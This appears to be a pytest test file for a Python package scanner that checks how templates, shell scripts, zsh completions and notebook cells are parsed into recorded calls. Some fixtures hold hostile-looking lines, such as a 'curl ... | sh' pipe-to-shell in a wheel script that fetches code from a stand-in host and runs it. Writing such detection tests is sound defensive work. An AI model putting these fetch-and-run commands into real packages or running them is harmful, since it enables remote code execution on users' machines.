"""Templates, commands of notebooks and scripts of other shells are read as what they become."""

import pytest
from artifact_samples import WHEEL, account, examined

from ostiary.formats.notebook import Cell
from ostiary.program.model import Program

TEMPLATE = b"""import os
class {{crew_name}}:
    {%- if a %}
    name = '{{ name | lower }}'
    {% endif %}
    os.system('true')
"""


def calls(files: dict[str, bytes]) -> list[str]:
    program = next(one for one in examined(WHEEL, files).facts if isinstance(one, Program))
    return [one.name for one in program.calls]


def test_a_template_is_read_with_its_gaps_filled() -> None:
    files = {"p/__init__.py": b"", "p/templates/a.py": TEMPLATE}
    assert account(WHEEL, files)["p/templates/a.py"].understood
    assert calls(files) == ["os.system"]


@pytest.mark.parametrize(
    "text", [TEMPLATE + b"}}} return ]\n" * 9, b"def {{ 1 + ( }}:\n    }}} ]\n" * 9]
)
def test_what_no_filling_makes_python_stays_unread(text: bytes) -> None:
    files = {"p/__init__.py": b"", "p/templates/a.py": text}
    assert not account(WHEEL, files)["p/templates/a.py"].understood


SCRIPT = "sample-1.0.data/scripts/sample-complete"


def test_a_program_without_a_first_line_is_one_of_the_shell() -> None:
    files = {
        "p/__init__.py": b"",
        SCRIPT: b"# put it where shells look\ncurl -s https://a.example.invalid | sh\n",
    }
    assert account(WHEEL, files)[SCRIPT].understood
    assert "curl" in " ".join(calls(files))


ZSH = b"""autoload -Uz bashcompinit
_done() {
  local -a matches
  jobs=( ${(kv)jobstates} )
  texts=( ${(kv)jobtexts} ${(j. .)words} )
  matches=( ${(f)"$(curl -s https://a.example.invalid)"} )
}
complete -C done sample
"""


def test_what_zsh_has_over_other_shells_does_not_make_a_script_unread() -> None:
    files = {"p/__init__.py": b"", f"{SCRIPT}.sh": ZSH}
    assert account(WHEEL, files)[f"{SCRIPT}.sh"].understood
    assert "curl" in calls(files)
    files = {"p/__init__.py": b"", f"{SCRIPT}.sh": b"${(f)x}\n" + b"}}}) ]] fi done esac\n" * 20}
    assert not account(WHEEL, files)[f"{SCRIPT}.sh"].understood


@pytest.mark.parametrize(
    ("line", "command"),
    [
        ("!{sys.executable} -m pip install 'a[b]'", "python -m pip install 'a[b]'"),
        ("!curl {where} -o ${HOME}/a", "curl ${PYTHON_VALUE} -o ${HOME}/a"),
    ],
)
def test_what_python_puts_into_a_command_of_a_notebook(line: str, command: str) -> None:
    assert Cell(1, True, line).shell == [command]
